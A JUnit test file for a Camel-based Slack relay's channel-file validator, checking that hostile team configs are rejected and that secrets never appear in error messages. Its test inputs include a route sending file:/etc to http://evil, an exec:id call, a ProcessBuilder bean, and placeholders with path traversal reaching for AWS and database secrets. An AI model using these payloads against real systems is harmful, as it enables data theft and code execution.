package io.configrelay.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a team may not do in a file of its own: run a program, read another's secret, be told as another, show a secret. */
class HostileChannelFileTest {

    private static final String SECRET = "hunter2-swordfish";

    private static final String WELL = """
            - templatedRoute:
                routeTemplateRef: slack-channel
                parameters:
                  - name: name
                    value: team
                  - name: match
                    value: $
                  - name: webhook
                    value: "{{env:SLACK_WEBHOOK_TEAM}}"
            """;

    @TempDir
    private Path folder;

    private Path channels;
    private Path file;
    private String allowRoutes = "false";

    @BeforeEach
    void program() throws IOException {
        channels = Files.createDirectory(folder.resolve("channels"));
        for (String route : List.of("slack-channel", "slack-post", "notifications")) {
            Files.copy(Path.of("routes", route + ".camel.yaml"), folder.resolve(route + ".camel.yaml"));
        }
        file = channels.resolve("team.camel.yaml");
    }

    /** Everything that the process knows is there to be named. */
    private String resolve(String text) {
        UnaryOperator<String> settings = key -> switch (key) {
            case "{{relay.channels.allow-routes}}" -> allowRoutes;
            case "{{relay.channels.secrets}}" ->
                "SLACK_WEBHOOK_*, slack.*, file:/run/secrets/slack/*, aws:config-relay/slack*";
            case "{{relay.slack.interval}}" -> "1s";
            case "{{relay.slack.fold-for}}" -> "15m";
            case "{{relay.slack.token}}" -> "none";
            case "{{relay.slack.high-risk-per-minute}}" -> "3";
            case "{{relay.store}}" -> "state";
            default -> key.startsWith("{{env:SLACK_WEBHOOK") ? "https://hooks.example/" + SECRET : SECRET;
        };
        return text.matches("\\{\\{[^{}]*}}") ? settings.apply(text) : text;
    }

    private List<String> mistakes(String text) throws IOException {
        Files.writeString(file, text);
        return ChannelFiles.read(folder, this::resolve).mistakes().stream()
                .map(Mistake::toString)
                .toList();
    }

    private static String with(String parameter, String value) {
        return WELL + "      - name: %s\n        value: \"%s\"\n".formatted(parameter, value);
    }

    @Test
    void aChannelNeedsNoRouteId() throws IOException {
        assertThat(mistakes(WELL)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "# - templatedRoute: a file that is commented out\n",
                "[]",
                "- \n",
                "- templatedRout:\n    routeTemplateRef: slack-channel\n",
                "templatedRoute:\n  routeTemplateRef: slack-channel\n",
                "- templated-route:\n    routeTemplateRef: slack-channel\n",
                "- templatedRoute:\n",
                "- templatedRoute:\n    routeTemplateRef: slack-chanel\n    parameters: []\n",
                "- templatedRoute:\n    parameters: []\n",
                "- templatedRoute:\n    routeTemplateRef: slack-channel\n",
                "- templatedRoute:\n    routeTemplateRef: slack-channel\n    parametres: []\n",
                "- templatedRoute:\n    routeTemplateRef: slack-channel\n    parameters: none\n",
                "- templatedRoute:\n    routeTemplateRef: slack-channel\n    parameters:\n      - name\n",
                "just a text"
            })
    void aFileThatIsNoChannelIsAMistakeAndNeverNothing(String text) throws IOException {
        Files.writeString(channels.resolve("other.camel.yaml"), WELL.replace("team", "other"));

        assertThat(mistakes(text)).isNotEmpty().allMatch(mistake -> mistake.startsWith(file.toString()));
    }

    @Test
    void aSlipIsToldWithWhatWasMeant() throws IOException {
        assertThat(mistakes(WELL.replace("templatedRoute", "templatedRout")))
                .anyMatch(mistake ->
                        mistake.contains(":1: 'templatedRout' is no channel. Did you mean 'templatedRoute'?"));
        assertThat(mistakes(WELL.replace("slack-channel", "slack-chanel")))
                .anyMatch(mistake -> mistake.contains(
                        ":2: routeTemplateRef: 'slack-chanel' is no template. Did you mean 'slack-channel'?"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "- route:\n    id: own\n    from:\n      uri: file:/etc\n      steps:\n        - to: {uri: http://evil}\n",
                "- from:\n    uri: timer:x\n    steps:\n        - to: {uri: exec:id}\n",
                "- routeTemplate:\n    id: own\n    from: {uri: direct:x}\n",
                "- routeConfiguration:\n    id: dead-letter\n",
                "- onException:\n    exception: [java.lang.Exception]\n",
                "- errorHandler: {}\n",
                "- intercept:\n    steps: []\n",
                "- interceptFrom:\n    uri: direct:event\n",
                "- beans:\n    - name: channels\n      type: java.lang.String\n",
                "- rest:\n    path: /x\n",
                "- templatedRoute: {routeTemplateRef: slack-channel, parameters: []}\n  route: {id: own}\n",
                "apiVersion: camel.apache.org/v1\nkind: Integration\n"
            })
    void whatIsNoChannelDoesNotRun(String text) throws IOException {
        assertThat(mistakes(text))
                .anyMatch(mistake -> mistake.contains("channels/team.camel.yaml") && mistake.contains("channel"));
    }

    @Test
    void aChannelBringsNoBeansOfItsOwn() throws IOException {
        assertThat(mistakes(WELL + """
                    beans:
                      - name: slackChannel
                        type: "#class:java.lang.ProcessBuilder"
                """))
                .anyMatch(mistake -> mistake.contains("'beans' is nothing that a channel has."));
    }

    @Test
    void whoAllowsRoutesHasThem() throws IOException {
        allowRoutes = "true";

        assertThat(mistakes(WELL + "- route:\n    id: own\n    from: {uri: direct:own}\n"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{env:AWS_SECRET_ACCESS_KEY}}",
                "{{AWS_SECRET_ACCESS_KEY}}",
                "{{aws.secret.access.key}}",
                "{{sys:user.home}}",
                "{{relay.store.password}}",
                "{{relay.slack.token}}",
                "{{camel.component.aws2-sqs.secret-key}}",
                "{{file:/run/secrets/database/password}}",
                "{{file:/run/secrets/slack/../database/password}}",
                "{{file:/run/secrets/slack/a/b}}",
                "{{file:../../run/secrets/slack/x}}",
                "{{aws:prod/database}}",
                "{{bean:channels.names}}",
                "{{env:X:{{env:AWS_SECRET_ACCESS_KEY}}}}",
                "{{env:SLACK_WEBHOOK_{{x}}}}",
                "{{?relay.store.password}}",
                "{{unknown:{{relay.store.password}}",
                "}}{{"
            })
    void noSecretButTheListedIsRead(String value) throws IOException {
        for (String parameter : List.of("token", "interval", "mention")) {
            List<String> mistakes = mistakes(with(parameter, value));

            assertThat(mistakes).isNotEmpty().noneMatch(mistake -> mistake.contains(SECRET));
            assertThat(mistakes.get(0)).contains("team.camel.yaml:").doesNotContain("can't be read");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"name", "template", "classic-text", "classic-channel", "classic-username", "match", "format"})
    void noSecretIsShown(String parameter) throws IOException {
        String text = parameter.equals("name") || parameter.equals("match")
                ? WELL.replaceFirst("(name: %s\n\\s+value: ).*".formatted(parameter), "$1\"{{env:SLACK_WEBHOOK_B}}\"")
                : with(parameter, "{{env:SLACK_WEBHOOK_B}}");

        assertThat(mistakes(text))
                .isNotEmpty()
                .allMatch(mistake -> mistake.contains("{{env:SLACK_WEBHOOK_B}}"))
                .noneMatch(mistake -> mistake.contains(SECRET));
    }

    /** The value itself, by mistake under another key. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "name",
                "channel",
                "format",
                "language",
                "interval",
                "mention",
                "noise",
                "mute",
                "digest",
                "shadow",
                "max-per-post",
                "otherwise",
                "unknown"
            })
    void whatLooksLikeASecretIsNotRepeated(String parameter) throws IOException {
        String webhook = "https://hooks.slack.com/services/T01ABCDEF/B01ABCDEF/aBcDeFgHiJkLmNoPqRsTuVwX";
        String text = parameter.equals("name")
                ? WELL.replace("value: team", "value: \"%s\"".formatted(webhook))
                : with(parameter, webhook);

        assertThat(mistakes(text)).isNotEmpty().noneMatch(mistake -> mistake.contains("aBcDeFgHiJkLmNoPqRsTuVwX"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "channel",
                "format",
                "language",
                "interval",
                "mention",
                "noise",
                "mute",
                "digest",
                "shadow",
                "max-per-post",
                "high-risk-per-minute",
                "fold-for",
                "otherwise",
                "ops",
                "mute-high-risk"
            })
    void aValueFromElsewhereIsNamedByItsPlace(String parameter) throws IOException {
        String text = (parameter.equals("channel") ? WELL.replaceAll("      - name: webhook\n.*\n", "") : WELL)
                + "      - name: %s\n        value: \"{{slack.secret}}\"\n".formatted(parameter);

        assertThat(mistakes(text))
                .singleElement()
                .asString()
                .contains("%s: the value of {{slack.secret}} is n".formatted(parameter))
                .doesNotContain(SECRET);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$[?(@.region == '${env:AWS_SECRET_ACCESS_KEY}')]",
                "${bean:channels?method=names}",
                "region == 'x'",
                "$[?(@.resourceName =~ /(?=a)b/)]",
                "$[?(@.resourceName =~ /(a)\\1/)]"
            })
    void aFilterReachesNothingButTheEvent(String match) throws IOException {
        List<String> mistakes =
                mistakes(WELL.replace("value: $\n", "value: \"%s\"\n".formatted(match.replace("\\", "\\\\"))));

        if (match.startsWith("$[?(@.region")) {
            // It is a text like any other.
            assertThat(mistakes).isEmpty();
        } else {
            assertThat(mistakes).singleElement().asString().contains(":7: match: ");
        }
    }

    @Test
    void twoChannelsOfOneRouteIdNameBothFiles() throws IOException {
        String id = "    routeId: channel-team\n    parameters:";
        Path other = Files.writeString(
                channels.resolve("other.camel.yaml"),
                WELL.replace("    parameters:", id).replace("value: team", "value: other"));

        assertThat(mistakes(WELL.replace("    parameters:", id)))
                .singleElement()
                .asString()
                .contains(file + ":3: routeId: 'channel-team' is already the id of the channel at " + other + ":3.");
    }

    @Test
    void aRouteIdThatAnotherChannelHasByItsNameIsAMistake() throws IOException {
        Path other = Files.writeString(
                channels.resolve("other.camel.yaml"),
                WELL.replace("    parameters:", "    routeId: channel-team\n    parameters:")
                        .replace("value: team", "value: other"));

        assertThat(mistakes(WELL))
                .singleElement()
                .asString()
                .contains(other + ":3: routeId: 'channel-team' is already the id of the channel at " + file + ":2.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"slack-post", "event", "notifications", "channel-security~2"})
    void aRouteIdOfTheProgramIsAMistake(String id) throws IOException {
        assertThat(mistakes(WELL.replace("    parameters:", "    routeId: %s\n    parameters:".formatted(id))))
                .singleElement()
                .asString()
                .contains(file + ":3: routeId: '%s' ".formatted(id), "A channel needs none: remove the line.");
    }
}
